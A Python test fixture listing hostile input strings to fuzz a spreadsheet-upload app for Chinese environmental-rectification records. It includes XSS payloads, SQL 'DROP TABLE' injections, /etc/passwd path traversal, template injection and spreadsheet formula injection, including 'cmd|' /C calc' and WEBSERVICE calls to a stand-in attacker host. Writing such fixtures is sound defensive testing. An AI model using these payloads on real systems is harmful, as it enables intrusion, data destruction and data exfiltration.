"""Texts that an enemy would write into a list: kinds of attack × the places they stand in."""

EVIL = "https://evil.example"
HIT = "window.__hit=1"

MARKUP = (
    f"<script>{HIT}</script>", f"<img src=x onerror={HIT}>", f"<svg onload={HIT}>",
    f"<a href='javascript:{HIT}'>点我</a>", f"\"><iframe src='{EVIL}/f'></iframe>",
    "<style>*{display:none!important}</style>", f"<base href='{EVIL}/'>", f"<details open ontoggle={HIT}>",
    f"</textarea></title><script src={EVIL}/a.js></script>", f"<body onpageshow={HIT}>",
    f"<img src={EVIL}/i.png>", f"<link rel=stylesheet href={EVIL}/s.css>", f"<video src={EVIL}/v>",
    f"<form action={EVIL}><input name=q><button>登录</button></form>", "<!-- ", "<![CDATA[", "]]>",
    f"&lt;img src=x onerror={HIT}&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;", "&nbsp;&copy;&#x41;",
    f"<h1 style='position:fixed;inset:0'>{HIT}</h1>", f"<object data='data:text/html,<script>{HIT}</script>'>",
    f"javascript:{HIT}", f"data:text/html,<script>{HIT}</script>", f"<math><mi xlink:href=javascript:{HIT}>x",
    f"'-({HIT})-'", f"\";{HIT};//", f"`;{HIT};`", f"</script><script>{HIT}</script>", "<div", "</div></div></div>",
)  # fmt: skip
MARKDOWN = (
    f"[点我](javascript:{HIT})", f"[点我]({EVIL}/l)", f"![图]({EVIL}/m.png)", f"[x]: {EVIL}/r", f"<{EVIL}/a>",
    f"{EVIL}/auto", "www.evil.example", "a@evil.example", "# 标题", "## 标题", "> 引用", "```代码", "`代码`", "**粗**",
    "__粗__", "~~删~~", "*斜*", "_斜_", "- [ ] 待办", "1. 一", "---", "===", "| 一 | 二 |", "|---|---|", "[^1]",
    f"[![图]({EVIL}/n.png)]({EVIL}/n)", "\\", "\\*", "* * *", "+ 一", "    缩进", "x^2^", "H~2~O", "::: 注",
)  # fmt: skip
LATEX = (
    "$$\\frac{1}{0}$$", f"$\\href{{javascript:{HIT}}}{{x}}$", "$$\\def\\a{\\a\\a}\\a$$",
    f"$\\includegraphics{{{EVIL}/t.png}}$", "\\(x\\)", "\\[x\\]", "$x$", "$$", "$", "\\input{/etc/passwd}",
    "$\\color{white}x$", "$\\rule{9999em}{9999em}$",
)  # fmt: skip
DIRECTIVES = (
    ":red[红]", ":material/delete:", ":red-background[红]", ":small[小]", ":streamlit:", ":smile:",
    ":orange-badge[章]", ":green-badge[:material/check:]", ":rainbow[虹]", ":blue[:material/home:", "<- ->",
    "-- >= <= ~=", "::st.button::", ":material/zz_none:", ":gray[", "]",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{tip}", "{0.__class__}", "{}", "%s%n%x", "%(x)s", "{%raw%}",
    "datum.x", "${alert(1)}", "{{constructor.constructor('window.__hit=1')()}}", "$ne", "@@version",
)  # fmt: skip
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE tasks_versions; --", "\"; DROP TABLE uploads; --", "') UNION SELECT 1 --",
    "\\'; --", "%", "_", "1; ATTACH 'x.db'", "'||(SELECT 1)||'", "read_csv('/etc/passwd')", "$1", "?", "/* */",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\system32", "file:///etc/passwd",
    "\\\\evil.example\\share", "....//....//x", "%2e%2e%2f", "CON", "NUL", "~root", "a/../b", "清单.xlsx/../../x",
)  # fmt: skip
NAMES = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "undefined", "null", "NaN", "true", "None", "Infinity",
    "length", "__init__", "nan", "[object Object]", "全部单位", "全部区县", "~", "a~b~c", "title", "image",
)  # fmt: skip
INVISIBLE = (
    "\u202e逆序", "\u202d\u202e\u2066\u2067\u2069", "左\u202e右\u202c中", "\u200b零宽", "零\u200b宽\u200d字\u2060",
    "\ufeff头", "\u00ad", "\u2028行", "\u2029段", "\u00a0", "\u061c", "\U000e0041\U000e007f", "\u115f\u3164", "\u180e",
    "\u200f\u200e", "\u0301", "e\u0301\u0302\u0303" * 20, "\u0e49" * 40, "Z\u0351\u036b\u0343" * 12, "\ufdfd" * 4,
    "\ufe0f", "\u20e3", "\u0085", "\x7f", "_x0000_", "_x0007_警", "_x001B_[31m红", "_x000D_", "_xFFFF_",
    "\ufffd", "\ue000",
)  # fmt: skip
PICTURES = (
    "👩‍👩‍👧‍👦", "🇨🇳🇨", "👍🏿", "😀" * 20, "☠️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺ", "𝕬", "İ", "ß", "ǅ", "ﬀ", "Ⅻ", "١٢٣", "עברית", "𠮷",
)  # fmt: skip
FORMULAS = (
    "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", f'HYPERLINK("{EVIL}","点我")', f'WEBSERVICE("{EVIL}")',
    "DDE(\"cmd\";\"/C calc\";\"x\")", f'IMPORTXML("{EVIL}","//a")', "A1", "2+3",
)  # fmt: skip
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "＝",
    "'=",
    "\u200b=",
    "\ufeff=",
    "\t@",
    "\r+",
)
LONG = (
    "污" * 10_000, "W" * 10_000, "a-" * 5_000, "<b>" * 3_333, "=" * 9_999, "\u0301" * 10_000, "[" * 10_000,
    "😀" * 5_000,
)  # fmt: skip
PLACES = ("{}", "沿河“{}”排污\n{}口")
"""Where in a cell an attack stands: alone, or twice within a text of two lines."""

ATTACKS = (
    *MARKUP, *MARKDOWN, *LATEX, *DIRECTIVES, *TEMPLATES, *QUERIES, *PATHS, *NAMES, *INVISIBLE, *PICTURES,
)  # fmt: skip
STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(start + body for start in STARTS for body in FORMULAS),
            *(place.replace("{}", attack) for place in PLACES for attack in ATTACKS),
            *LONG,
        )
    )
)

# Heading → what stands below it: None for a hostile text, else a valid text of row n.
STATES = ("整改中", "完成整改", "尚未启动", "完成销号", "未达到序时进度")
TASKS = {
    "序号": "{n}", "督察来源": None, "类别": None, "反馈问题": None, "整改目标": None, "整改措施": None,
    "整改时限": "2020年{month}月底前", "牵头单位": None, "责任单位": None, "配合单位": None, "督导单位": None,
    "责任领导": None, "责任人员": None, "整改状态": "{state}", "整改进展": None, "区县": None, "佐证材料": None,
    "备注": None, "经度": "103.7{n:03}", "纬度": "27.3{n:03}",
}  # fmt: skip
UNREADABLE = {"序号": None, "子项": None, "反馈问题": "问题{n}", "整改时限": None, "整改状态": None, "核实状态": None,
              "启动时间": None, "完成进度": None, "经度": None}  # fmt: skip
PETITIONS = {
    "督察来源": None, "受理编号": None, "批次": None, "交办日期": "2020年1月{day}日", "行政区域": None,
    "污染类型": None, "问题描述": None, "是否属实": "属实", "办结状态": "已办结", "调查核实情况": None,
    "处理和整改情况": None, "重复件": None, "责任单位": None, "备注": None,
}  # fmt: skip
INDICATORS = {
    "督察来源": None, "指标名称": None, "区县": None, "时期": "2020年{month}月", "计量单位": None, "实际值": "{n}",
    "目标值": "{day}", "方向": "不低于", "基准": None, "备注": None,
}  # fmt: skip
DIRECTORY = {
    "单位全称": None,
    "别名": None,
    "单位类型": "部门",
    "区县": None,
    "成员单位": None,
    "备注": None,
}
